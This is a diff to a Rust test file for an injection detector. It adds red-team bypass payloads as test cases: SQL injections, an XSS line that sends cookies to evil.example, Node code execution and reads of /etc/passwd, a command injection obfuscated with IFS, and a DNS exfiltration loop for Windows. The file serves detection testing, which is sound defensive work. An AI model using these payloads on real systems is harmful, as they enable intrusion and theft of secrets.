@@ -146,9 +146,26 @@ fn pasted_code_stays_unconfirmed_and_the_injections_it_resembles_do_not() {
         ("\" onfocus = alert(1) x=\"", Family::Xss),
         ("require('child_process').exec('id')", Family::Code),
         ("require('http://evil.example/x.js')", Family::Code),
+        // The third red team's bypasses of the first version of these rules, each run against
+        // a real server or runtime: a quote inside a comment, an escaped backslash before a
+        // quote (MySQL, JS), a string of the other kind, a spaced handler in an attribute,
+        // Node's `node:` modules and `fs`, a local file included, an IFS expansion hugging a
+        // command, a FOR loop behind 64 separators.
+        ("x'-- '\n or sleep(2)#", Family::Sqli),
+        ("\\'\\\\' or sleep(2)#", Family::Sqli),
+        ("x' \"'x\" or sleep(2)#", Family::Sqli),
+        ("t'exec master..xp_cmdshell 'nslookup www.example.com'--", Family::Sqli),
+        ("\\'\\\\';fetch('//evil.example/?'+document.cookie)//", Family::Xss),
+        ("\" autofocus onfocus = (alert)(document.domain) x=\"", Family::Xss),
+        ("require('node:child_process').execSync('id')", Family::Code),
+        ("';require('fs').readFileSync('/etc/passwd')//", Family::Code),
+        ("';include('/proc/self/environ');//", Family::Code),
+        ("1;cat${IFS%??}/etc/passwd", Family::Command),
     ] {
         assert!(confirmed(&value(p)).contains(&family), "{p}: {:?}", confirmed(&value(p)));
     }
+    let decoys = format!("127.0.0.1\"{}\" & for /f %i in ('whoami') do nslookup %i.evil.example", "&".repeat(70));
+    assert!(confirmed(&value(&decoys)).contains(&Family::Command));
 }
 
 /// Text that mentions what the new detectors look for, and data that shares their characters:
